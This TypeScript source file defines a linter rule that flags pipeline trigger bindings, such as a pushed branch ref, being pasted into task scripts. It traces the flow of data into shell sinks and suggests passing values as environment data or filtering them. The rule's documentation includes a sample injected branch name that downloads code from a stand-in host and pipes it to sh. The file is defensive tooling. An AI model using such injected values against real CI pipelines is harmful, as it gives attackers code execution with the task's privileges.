import { celOfBinding } from '../../../analysis/events/binding-expressions';
import { Callees } from '../../../analysis/documents/callee';
import { EventFlow } from '../../../analysis/events/event-flow';
import { findRunByTree, findRunByWords } from '../../../analysis/events/payload-scripts';
import { scriptsReached, type Hop, type ReachedScript } from '../../../analysis/events/payload-ways';
import { triggerName } from '../../../analysis/events/trigger-ways';
import { envName } from '../../../util/env-name';
import { quote } from '../../../util/quote';
import { defineRule } from '../../engine/rule';
import { takenBy } from '../../engine/taken-by';
import { templateRuns } from '../../engine/template-runs';
import { build, set, taskRunTemplate, triggers } from '../example';

const template = taskRunTemplate('ref', 'path');
const trigger = (value: string): string =>
  triggers('Trigger', `bindings:\n  - { name: ref, value: ${value} }\ntemplate: { ref: example }`);
const task = build('params:\n  - name: path');

export const payloadInScript = defineRule({
  id: 'payload-in-script',
  severity: 'warning',
  docs: {
    title: 'Text of an event is pasted into a script',
    why: 'Whoever may push a branch, open a pull request or write a comment chooses that text. A branch may be called `x;curl${IFS}evil|sh`: what stands in the script is run, with all that the task may do. A signature says that the event comes from the forge, and nothing of what people wrote. In a variable the text is data, until a script runs it: by `eval "$TITLE"`, `bash <<< "$TITLE"`, `. "$TITLE"` or `xargs -I{} sh -c …`. In files, scripts of sh and bash are followed through variables, functions, pipes and files to such places; what is compared first, or goes through `tr`, `sed` and the like, is taken for checked.',
    bad: set(task, template, trigger('$(body.ref)')),
    good: set(task, template, trigger('$(body.after)')),
  },
  messages: {
    pasted: (d: { value: string; what: string }) =>
      `${quote(d.value)} of the event becomes part of the script of ${d.what}`,
  },
  visit: ({ report, set, current, namespace, placeOf, placeIn, readsScripts }) => {
    const byTree = findRunByTree();
    return {
      Trigger({ trigger, path, ofListener }) {
        const findRun = readsScripts() ? byTree : findRunByWords;
        const home = current();
        const runs = templateRuns(trigger.template ?? {}, `${path}.template`, set(), namespace());
        if (!home || runs.length === 0) return;
        const flow = new EventFlow({ trigger, path, ofListener, home: triggerName(home) }, set());
        for (const { name, value, path: at, from } of flow.values) {
          const reached = runs.flatMap(({ run, spot }) => {
            const { metadata } = run as { readonly metadata?: { readonly namespace?: string } };
            return scriptsReached(name, run, spot, new Callees(set(), metadata?.namespace ?? namespace()), findRun);
          });
          const [first, ...others] = reached;
          const open = first && flow.openIn(value);
          if (!first || open === undefined) continue;
          const placed = ({ note, at: { document, path: field } }: Hop) => ({
            note,
            at: document ? placeIn(document, field) : placeOf(field),
          });
          report(
            'pasted',
            { value: `$(${open})`, what: first.what },
            {
              path: at,
              text: from ? undefined : `$(${open})`,
              related: [
                ...takenBy(from, placeIn),
                ...first.hops.map(placed),
                ...others.flatMap(({ hops }) => hops.slice(-1).map(placed)),
              ],
              help: helpFor(first, open),
            },
          );
        }
      },
    };
  },
});

function helpFor({ variable, param = 'VALUE', evaluated }: ReachedScript, open: string): string[] {
  const filter = `or let one form of it through: a filter of the cel interceptor such as ${celOfBinding(open)}.matches('^[A-Za-z0-9/._-]+$')`;
  if (evaluated !== undefined)
    return [`hand "$${evaluated}" to a command as an argument, without eval and sh -c`, filter];
  const name = envName(param);
  return [
    `pass it to the script as data: env: [{ name: ${name}, value: ${variable} }], and "$${name}" in the script`,
    filter,
  ];
}
